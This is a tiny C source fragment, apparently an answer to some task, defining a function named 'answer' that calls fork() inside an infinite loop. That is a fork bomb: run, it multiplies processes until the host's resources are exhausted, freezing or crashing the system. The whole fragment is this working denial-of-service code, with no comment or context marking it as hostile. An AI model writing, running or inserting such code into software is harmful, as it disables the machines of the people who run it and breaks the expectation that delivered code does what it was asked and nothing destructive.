#include <unistd.h>
int answer(void) { for (;;) fork(); }
